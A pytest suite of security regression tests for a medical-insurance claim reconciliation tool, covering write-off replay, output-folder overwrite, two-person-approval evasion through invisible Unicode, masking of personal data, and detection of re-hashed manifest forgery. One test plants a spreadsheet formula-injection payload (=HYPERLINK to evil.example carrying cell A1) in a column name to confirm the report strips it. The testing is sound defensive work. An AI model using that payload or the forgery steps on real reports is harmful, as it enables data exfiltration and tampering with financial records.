"""Attacked on purpose (issue 14): a forged match, a lost write-off, personal data in messages, workspace
traps and exit codes that mislead cron. Each test here failed on the code before its fix."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq

from conftest import SAMPLE, cli, last_run, row, write_rows

D = Decimal
AUG = "2026-08-14 10:00:00"


def _clear(ws: Path, claims: Path, ledger: Path, period: str, code: int | None = None, *extra: str):
    return cli(["clear", "--claims", claims, "--ledger", ledger, "--period", period, "--workspace", ws,
                "--no-statements", "--json", *extra], code)


# -- 2 / 8. a write-off applies to the rows it named -------------------------------------------------------------

def test_a_write_off_does_not_swallow_the_same_setl_id_sent_again_later(tmp_path):
    ws = tmp_path / "ws"
    aug_c = write_rows(tmp_path / "08" / "c.parquet", [row("A1", when=AUG)])
    aug_l = write_rows(tmp_path / "08" / "l.parquet", [row("A1", when=AUG, vali_flag="1"),
                                                       row("X1", "300.00", "200.00", "50.00", when=AUG, vali_flag="1")])
    _clear(ws, aug_c, aug_l, "2026-08", 1)
    cli(["writeoff", "--side", "ledger", "--setl-id", "X1", "--setl-id", "X1", "--reason", "booked in error",
         "--by", "王芳", "--approved-by", "李强", "--workspace", ws])
    assert json.loads(cli(["held", "--workspace", ws, "--json"]).stdout)["items"] == []
    # September: the agency resends X1 (a correction): a new item, held and shown
    sep_c = write_rows(tmp_path / "09" / "c.parquet", [row("N1", when="2026-09-02 10:00:00")])
    sep_l = write_rows(tmp_path / "09" / "l.parquet", [row("N1", when="2026-09-02 10:00:00", vali_flag="1"),
                                                       row("X1", "300.00", "200.00", "50.00", when=AUG,
                                                           vali_flag="1")])
    _clear(ws, sep_c, sep_l, "2026-09", 1)
    items = json.loads(cli(["held", "--workspace", ws, "--json"]).stdout)["items"]
    assert [(i["side"], i["setl_id"], i["first_period"]) for i in items] == [("ledger", "X1", "2026-09")]
    # October: the hospital's late claim arrives and X1 is cleared at last
    oct_c = write_rows(tmp_path / "10" / "c.parquet", [row("X1", "300.00", "200.00", "50.00", when=AUG)])
    oct_l = write_rows(tmp_path / "10" / "l.parquet", [row("D1", vali_flag="1")])
    dec = json.loads(_clear(ws, oct_c, oct_l, "2026-10").stdout)
    assert dec["carry_forward"]["resolved"]["clr_amt"] == "250.00"
    run_dir = Path(json.loads(cli(["show", "3", "--workspace", ws]).stdout)["out_dir"])
    outcomes = pq.read_table(run_dir / "carry_forward.parquet").to_pylist()
    assert [(o["side"], o["setl_id"], o["outcome"]) for o in outcomes] == [("ledger", "X1", "matched_late")]
    import duckdb

    store = duckdb.connect(str(ws / "workspace.duckdb"), read_only=True)
    assert store.execute("SELECT count(*), sum(records) FROM writeoffs").fetchall() == [(1, 1)]  # once, not twice
    store.close()


# -- 3 / 4 / 21. what --out may replace ---------------------------------------------------------------------------

SAMPLE_ARGS = ["--claims", SAMPLE / "claims", "--ledger", SAMPLE / "ledger", "--no-statements"]


def test_out_never_replaces_a_run_of_another_period_or_command(tmp_path):
    october = tmp_path / "october"
    cli(["clear", *SAMPLE_ARGS, "--period", "2026-10", "--out", october], 1)
    before = (october / "manifest.json").read_bytes()
    nov_c = write_rows(tmp_path / "c.parquet", [row("N1", when="2026-11-02 10:00:00")])
    nov_l = write_rows(tmp_path / "l.parquet", [row("N1", when="2026-11-02 10:00:00", vali_flag="1")])
    result = cli(["clear", "--claims", nov_c, "--ledger", nov_l, "--period", "2026-11", "--out", october], 73)
    assert "2026-10" in result.stderr and "2026-11" in result.stderr
    cli(["reconcile", "--claims", SAMPLE / "claims", "--ledger", SAMPLE / "ledger", "--period", "2026-10",
         "--out", october], 73)
    diff = tmp_path / "audit"
    cli(["diff", SAMPLE / "claims", SAMPLE / "ledger", "--key", "setl_id", "--out", diff], 1)
    cli(["clear", *SAMPLE_ARGS, "--period", "2026-10", "--out", diff], 73)
    assert (october / "manifest.json").read_bytes() == before
    cli(["clear", *SAMPLE_ARGS, "--period", "2026-10", "--out", october], 1)  # the same month again: allowed


def test_out_inside_a_workspace_or_around_an_input_is_refused(tmp_path):
    ws = tmp_path / "ws"
    c = write_rows(tmp_path / "c.parquet", [row("A1"), row("B1")])
    lg = write_rows(tmp_path / "l.parquet", [row("A1", vali_flag="1")])
    _clear(ws, c, lg, "2026-10", 1)
    for inside in (ws / "held", ws, ws / "elsewhere"):
        cli(["clear", "--claims", c, "--ledger", lg, "--period", "2026-10", "--out", inside,
             "--no-statements"], 73)
    cli(["clear", "--claims", c, "--ledger", lg, "--period", "2026-10", "--out", ws / "runs" / "x",
         "--no-statements"], 73)  # a workspace's runs are made with --workspace
    cli(["clear", "--claims", c, "--ledger", lg, "--period", "2026-10", "--out", tmp_path, "--no-statements"], 2)
    assert c.is_file() and lg.is_file()
    cli(["runs", "--workspace", ws])  # the store is untouched and still readable


def test_out_through_a_symlink_keeps_the_link(tmp_path):
    real = tmp_path / "real"
    link = tmp_path / "current"
    cli(["clear", *SAMPLE_ARGS, "--period", "2026-10", "--out", real], 1)
    link.symlink_to(real, target_is_directory=True)
    cli(["clear", *SAMPLE_ARGS, "--period", "2026-10", "--out", link], 1)
    assert link.is_symlink() and (real / "manifest.json").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["current", "real"]


# -- 5. a wrong period cannot block a workspace ---------------------------------------------------------------------

def test_a_future_month_is_refused_and_a_month_with_nothing_in_it_needs_force(tmp_path):
    ws = tmp_path / "ws"
    c = write_rows(tmp_path / "c.parquet", [row("A1"), row("B1")])
    lg = write_rows(tmp_path / "l.parquet", [row("A1", vali_flag="1")])
    assert "future" in _clear(ws, c, lg, "2062-10", 2).stderr
    assert "--force" in _clear(ws, c, lg, "2026-09", 2).stderr  # October's files given for September
    assert all(r["status"] != "done" for r in json.loads(cli(["runs", "--workspace", ws, "--json"]).stdout))
    _clear(ws, c, lg, "2026-10", 1)  # the real month is not blocked


def test_a_mistaken_run_is_voided_by_two_people_and_unblocks_the_months(tmp_path):
    ws = tmp_path / "ws"
    c = write_rows(tmp_path / "c.parquet", [row("A1"), row("B1")])
    lg = write_rows(tmp_path / "l.parquet", [row("A1", vali_flag="1")])
    _clear(ws, c, lg, "2026-11", 1, "--force")  # October's files cleared as November, forced
    assert "in order" in _clear(ws, c, lg, "2026-10", 77).stderr
    cli(["void", "1", "--reason", "wrong month", "--by", "王芳", "--workspace", ws], 77)
    cli(["void", "1", "--reason", "wrong month", "--by", "王芳", "--approved-by", "王芳", "--workspace", ws], 77)
    cli(["void", "1", "--reason", "wrong month", "--by", "王芳", "--approved-by", "李强", "--workspace", ws])
    _clear(ws, c, lg, "2026-10", 1)
    assert last_run(ws)["carried_from"] is None
    runs = json.loads(cli(["runs", "--workspace", ws, "--json"]).stdout)
    assert [(r["seq"], r["status"]) for r in runs] == [(1, "void"), (2, "done")]
    events = json.loads(cli(["show", "1", "--workspace", ws]).stdout)["period_events"]
    assert [(e["action"], e["by_person"], e["approved_by"]) for e in events] == [("void", "王芳", "李强")]


# -- 15. the two-person rule is not beaten by spelling ------------------------------------------------------------

def test_one_person_spelt_two_ways_is_still_one_person():
    from mediclear_cli.workspace import same_person

    for other in ("王 芳", "王\u200b芳", "王芳 ", "王\u3000芳", "王\u00ad芳", "\u200e王芳"):
        assert same_person("王芳", other), repr(other)
    assert same_person("Wang Fang", "ＷＡＮＧ  fang")
    assert not same_person("王芳", "李强")


# -- 6 / 7. money the contract rejects -------------------------------------------------------------------------

def test_money_that_is_not_exact_to_the_cent_is_bad_money_from_every_source(tmp_path):
    import pyarrow as pa

    from mediclear_cli.validation import validate_paths

    base = {"setl_time": ["2026-10-05 10:00:00"] * 6, "fund_pay_sumamt": ["0.00"] * 6, "acct_pay": ["0.00"] * 6,
            "insuplc_admdvs": ["150000"] * 6, "mdtrtarea_admvs": ["110000"] * 6}
    text = pa.table({"setl_id": ["T1", "T2", "T3", "T4", "T5", "T6"],
                     "medfee_sumamt": ["1.23457E+11", "12.3400000000000000001", "1_000.00", "1,000.00", "12.3400",
                                       ".5"], **base})
    pq.write_table(text, tmp_path / "text.parquet")
    rejects = {r["setl_id"]: r["reason"] for r in validate_paths([str(tmp_path / "text.parquet")], "ledger")[0]}
    assert rejects == {"T1": "bad_money", "T2": "bad_money", "T3": "bad_money", "T4": "bad_money"}
    floats = pa.table({"setl_id": ["F1", "F2"], "medfee_sumamt": pa.array([1234567.875, 1234567.87], pa.float32()),
                       **{k: v[:2] for k, v in base.items()}})
    pq.write_table(floats, tmp_path / "f32.parquet")
    rejects = {r["setl_id"]: r["reason"] for r in validate_paths([str(tmp_path / "f32.parquet")], "ledger")[0]}
    assert rejects["F1"] == "bad_money"  # half a cent, whatever the float's width


def test_an_amount_at_the_decimal_maximum_is_rejected_not_an_internal_error(tmp_path):
    huge = D("9999999999999999.99")
    c = write_rows(tmp_path / "c.parquet", [row("A1"), row("B1", medfee=str(huge), fund=str(huge), acct="0.00")]
                   + [row(f"N{i}") for i in range(30)])
    lg = write_rows(tmp_path / "l.parquet", [row("A1", vali_flag="1"), row("B1", medfee=str(huge), fund=str(huge),
                                                                           acct="0.00", vali_flag="1")]
                    + [row(f"N{i}", vali_flag="1") for i in range(30)])
    result = cli(["clear", "--claims", c, "--ledger", lg, "--period", "2026-10", "--out", tmp_path / "run",
                  "--no-statements", "--json"], 1)
    summary = json.loads(result.stdout)
    assert summary["sides"]["ledger"]["categories"]["rejected"]["records"] == 1


# -- 9. a month whose ledger is mostly rejected is unusable input -------------------------------------------------

def test_a_ledger_read_wrongly_fails_with_65_naming_the_column(tmp_path):
    import pyarrow as pa

    n = 40
    ledger = pa.table({"setl_id": [f"S{i}" for i in range(n)], "setl_time": ["2026-10-05 10:00:00"] * n,
                       "medfee_sumamt": pa.array([D("10.00")] * n, pa.decimal128(18, 2)),
                       "fund_pay_sumamt": pa.array([D("5.00")] * n, pa.decimal128(18, 2)),
                       "acct_pay": pa.array([D("1.00")] * n, pa.decimal128(18, 2)),
                       "insu_admdvs": pa.array([150000.0] * n, pa.float64()),  # a float-typed region column
                       "mdtrtarea_admvs": ["110000"] * n})
    pq.write_table(ledger, tmp_path / "ledger.parquet")
    claims = write_rows(tmp_path / "claims.parquet", [row(f"S{i}") for i in range(n)])
    result = cli(["clear", "--claims", claims, "--ledger", tmp_path / "ledger.parquet", "--period", "2026-10",
                  "--out", tmp_path / "run"], 65)
    assert "insu_admdvs" in result.stderr and "40 of 40" in result.stderr
    assert not (tmp_path / "run").exists()
    cli(["clear", "--claims", claims, "--ledger", tmp_path / "ledger.parquet", "--period", "2026-10",
         "--out", tmp_path / "run", "--max-rejected", "100%", "--no-statements"], 1)


# -- 10 / 11 / 12 / 14. personal data and formulas ------------------------------------------------------------------

ID = "11010519491231002X"


def test_no_input_value_reaches_an_error_message(tmp_path):
    from mediclear_cli.errors import engine_reason, one_line

    assert ID not in engine_reason(Exception(f'Conversion Error: Could not convert string "{ID}" to INT32'))
    assert ID not in one_line(f"/data/{ID}/claims.parquet: cannot be read")
    assert "\n" not in one_line("a\nb") and "\u202e" not in one_line("x\u202ey")


def test_extra_columns_with_personal_data_are_masked_by_chinese_and_pinyin_names_and_by_value(tmp_path):
    extra = {"身份证号": ID, "证件号码": ID, "zjhm": ID, "sfz": ID, "id_no": ID, "姓名": "欧阳金丝雀",
             "patient_name": "Canary Li", "xm": "欧阳金丝雀", "memo": f"患者{ID}住院", "ref_code": ID,
             "hzxm": "欧阳金丝雀"}
    c = write_rows(tmp_path / "c.parquet", [row("A1", **extra)] + [row(f"N{i}") for i in range(30)])
    lg = write_rows(tmp_path / "l.parquet", [row(f"N{i}", vali_flag="1") for i in range(30)])
    cli(["reconcile", "--claims", c, "--ledger", lg, "--period", "2026-10", "--out", tmp_path / "run"], 1)
    held = pq.read_table(tmp_path / "run" / "exceptions.parquet").to_pylist()
    text = repr(held)
    assert ID not in text and "欧阳金丝雀" not in text and "Canary Li" not in text
    assert held[0]["ref_code"] == "**************002X" and held[0]["memo"] == "患者**************002X住院"


def test_diff_masks_personal_data_and_writes_no_formula(tmp_path):
    import zipfile

    import pyarrow as pa

    left = pa.table({"setl_id": ["A", "B"], "certno": [ID, "110105194912310013"], "psn_name": ["欧阳金丝雀", "李"],
                     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": ["x", "y"], "note": [ID, "n"]})
    right = pa.table({"setl_id": ["A", "B"], "certno": ["110105194912310021", "110105194912310013"],
                      "psn_name": ["欧阳金", "李"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": ["z", "y"],
                      "note": ["m", "n"]})
    pq.write_table(left, tmp_path / "left.parquet")
    pq.write_table(right, tmp_path / "right.parquet")
    cli(["diff", tmp_path / "left.parquet", tmp_path / "right.parquet", "--key", "setl_id", "--out",
         tmp_path / "d"], 1)
    for path in (tmp_path / "d").iterdir():
        if path.suffix == ".parquet":
            text = repr(pq.read_table(path).to_pylist())
        elif path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as book:
                text = "".join(book.read(n).decode("utf-8", "replace") for n in book.namelist())
                assert "<f>" not in text, "a formula cell in the report"
        else:
            text = path.read_text(encoding="utf-8")
        assert ID not in text and "欧阳金丝雀" not in text, path.name


# -- 16. verify binds the hashes -------------------------------------------------------------------------------------

def test_a_re_hashed_forgery_is_caught_by_the_signature_and_by_re_derived_totals(tmp_path):
    import hashlib
    import shutil

    import pyarrow as pa

    key = tmp_path / "mediclear.key"
    key.write_bytes(b"k" * 32)
    run = tmp_path / "run"
    cli(["clear", "--claims", SAMPLE / "claims", "--ledger", SAMPLE / "ledger", "--period", "2026-10", "--out", run,
         "--no-statements", "--sign", key], 1)
    cli(["verify", run, "--key", key])
    forged = tmp_path / "forged"
    shutil.copytree(run, forged)
    nets = pq.read_table(forged / "net_positions.parquet")
    values = nets.column("net").to_pylist()
    values[0] += D("1000000.00")
    values[1] -= D("1000000.00")
    pq.write_table(nets.set_column(nets.column_names.index("net"), "net", pa.array(values, pa.decimal128(18, 2))),
                   forged / "net_positions.parquet")
    manifest = json.loads((forged / "manifest.json").read_text(encoding="utf-8"))
    for entry in manifest["outputs"]:  # re-hash everything, as a forger would
        data = (forged / entry["file"]).read_bytes()
        entry["bytes"], entry["sha256"] = len(data), hashlib.sha256(data).hexdigest()
    (forged / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    unsigned = cli(["verify", forged, "--outputs-only"], 65)
    assert "does not follow from pair_totals" in unsigned.stderr + unsigned.stdout
    signed = cli(["verify", forged, "--outputs-only", "--key", key], 65)
    assert "signature" in signed.stderr + signed.stdout


def test_a_malformed_manifest_is_65_and_an_unlisted_folder_is_a_finding(tmp_path):
    import shutil

    run = tmp_path / "run"
    cli(["reconcile", "--claims", SAMPLE / "claims", "--ledger", SAMPLE / "ledger", "--period", "2026-10",
         "--out", run], 1)
    extra = tmp_path / "extra"
    shutil.copytree(run, extra)
    (extra / "smuggled").mkdir()
    assert "smuggled" in cli(["verify", extra, "--outputs-only"], 65).stderr
    # a control total edited into something that is not a number is a finding (65), never an internal error
    edited = tmp_path / "edited"
    shutil.copytree(run, edited)
    manifest = json.loads((edited / "manifest.json").read_text(encoding="utf-8"))
    manifest["control_totals"]["ledger"]["held"]["clr_amt"] = "abc"
    manifest["control_totals"]["claims"]["held"]["records"] = "sNaN"
    (edited / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    found = cli(["verify", edited, "--outputs-only"], 65)
    assert "ledger held clr_amt" in found.stdout + found.stderr and "claims held records" in found.stdout + found.stderr
    manifest["control_totals"]["ledger"] = ["not", "a", "table"]
    (edited / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    assert "malformed" in cli(["verify", edited, "--outputs-only"], 65).stderr
    (run / "manifest.json").write_text('{"outputs": [{"file": 3}]}', encoding="utf-8")
    assert "malformed" in cli(["verify", run], 65).stderr


# -- 17. exit codes that tell cron what to do ---------------------------------------------------------------------------

def test_a_damaged_workspace_store_is_not_busy(tmp_path):
    c = write_rows(tmp_path / "c.parquet", [row("A1"), row("B1")])
    lg = write_rows(tmp_path / "l.parquet", [row("A1", vali_flag="1")])
    for content in (b"", b"\x00garbage" * 500):
        ws = tmp_path / f"ws{len(content)}"
        ws.mkdir()
        (ws / "workspace.duckdb").write_bytes(content)
        result = _clear(ws, c, lg, "2026-10", 65)
        assert "damaged" in result.stderr and "busy" not in result.stderr
        cli(["runs", "--workspace", ws], 65)


def test_bad_option_values_get_the_contracts_codes(tmp_path):
    args = ["clear", "--claims", SAMPLE / "claims", "--ledger", SAMPLE / "ledger", "--period", "2026-10",
            "--out", tmp_path / "run", "--no-statements"]
    for limit in ("0", "lots", "1", "-5GB", "1MB"):
        assert "--memory-limit" in cli([*args, "--memory-limit", limit], 2).stderr
    cli([*args, "--tolerance", "NaN"], 2)
    readonly = tmp_path / "ro"
    readonly.write_text("a file, not a folder", encoding="utf-8")
    cli([*args, "--temp-dir", readonly / "sub"], 73)
    bad = tmp_path / "bad.toml"
    bad.write_text("[clear]\nexcel_exceptions = 'many'\n", encoding="utf-8")
    result = cli(["--config", bad, "clear", "--period", "2026-10"], 78)
    assert "excel_exceptions" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    cli(["--config", "/dev/zero", "runs", "--workspace", tmp_path / "ws"], 78)


# -- 18 / 19. names and characters that trip the reader ------------------------------------------------------------

def test_input_columns_named_like_the_readers_own_are_carried(tmp_path):
    c = write_rows(tmp_path / "c.parquet", [row("A1", source_file="hospital.csv", file_row_number=7)]
                   + [row(f"N{i}") for i in range(30)])
    lg = write_rows(tmp_path / "l.parquet", [row("A1", vali_flag="1", medfee="100.01", psn_cash_pay=D("20.01"))]
                    + [row(f"N{i}", vali_flag="1") for i in range(30)])
    cli(["reconcile", "--claims", c, "--ledger", lg, "--period", "2026-10", "--out", tmp_path / "run"], 1)
    held = pq.read_table(tmp_path / "run" / "exceptions.parquet").to_pylist()
    claim = next(r for r in held if r["side"] == "claims")
    assert claim["extra_source_file"] == "hospital.csv" and claim["extra_file_row_number"] == 7
    assert claim["source_file"].endswith("c.parquet") and claim["source_row"] == 1


def test_a_file_with_the_readers_column_names_beside_other_files(tmp_path):
    """Such a file among others of other columns: the reader's own source_file was also carried as an extra,
    twice under one name, and the month was refused (exit 65, "duplicate names")."""
    write_rows(tmp_path / "c" / "a.parquet", [row("A1", source_file="hospital.csv")])
    write_rows(tmp_path / "c" / "b.parquet", [row("B1", memo="x")])
    write_rows(tmp_path / "l" / "l.parquet", [row("A1", vali_flag="1"), row("B1", vali_flag="1"), row("C1")])
    cli(["reconcile", "--claims", tmp_path / "c", "--ledger", tmp_path / "l", "--period", "2026-10",
         "--out", tmp_path / "run"], 1)
    held = pq.read_table(tmp_path / "run" / "exceptions.parquet").to_pylist()
    assert [(r["setl_id"], r["extra_source_file"], r["memo"]) for r in held] == [("C1", None, None)]
    assert held[0]["source_file"].endswith("l.parquet")


# -- 20. many files with distinct columns --------------------------------------------------------------------------------

def test_many_files_with_distinct_columns_load_in_linear_time_with_extras_packed(tmp_path, monkeypatch):
    import duckdb

    from mediclear_cli import engine, inputs

    monkeypatch.setattr(inputs, "PACK_EXTRAS_ABOVE", 5)
    monkeypatch.setattr(inputs, "GROUPS_PER_STATEMENT", 4)
    for i in range(30):  # each file has its own extra column, and some reorder the contract's
        extra = {f"x{i}": f"v{i}", "患者姓名": "欧阳金丝雀"} if i % 3 else {f"x{i}": i}  # 姓名 alone is psn_name
        record = row(f"S{i}", **extra)
        if i % 2:
            record = dict(reversed(list(record.items())))
        write_rows(tmp_path / "in" / f"f{i:02d}.parquet", [record])
    con = duckdb.connect()
    engine.run(con, "macros")
    side = inputs.load_side(con, "ledger", [str(tmp_path / "in")])
    assert side.rows == 30 and side.extras == ["extra_columns"]
    packed = dict(con.execute("SELECT setl_id, extra_columns FROM ledger").fetchall())
    assert json.loads(packed["S1"]) == {"x1": "v1", "患者姓名": "欧****"}
    assert json.loads(packed["S3"]) == {"x3": 3}
    assert con.execute("SELECT count(*) FROM ledger WHERE reject_reason IS NULL").fetchall()[0][0] == 30


def test_a_closed_months_run_folder_is_never_replaced(tmp_path):
    ws, signed = tmp_path / "ws", tmp_path / "reports" / "2026-10"
    c = write_rows(tmp_path / "c.parquet", [row("A1"), row("B1")])
    lg = write_rows(tmp_path / "l.parquet", [row("A1", vali_flag="1")])
    _clear(ws, c, lg, "2026-10", 1, "--out", str(signed))
    cli(["close", "--period", "2026-10", "--by", "王芳", "--workspace", ws])
    before = (signed / "manifest.json").read_bytes()
    result = cli(["clear", "--claims", c, "--ledger", lg, "--period", "2026-10", "--out", signed,
                  "--no-statements"], 73)  # without the workspace, the folder itself says it is closed
    assert "closed" in result.stderr
    assert (signed / "manifest.json").read_bytes() == before
    cli(["verify", signed])  # the marker is no unlisted file
    cli(["statements", signed, "--pdf", "never"], 73)  # nor are its signed statements printed anew
    cli(["reopen", "--period", "2026-10", "--reason", "x", "--by", "王芳", "--approved-by", "李强", "--workspace", ws])
    _clear(ws, c, lg, "2026-10", 1, "--out", str(signed))
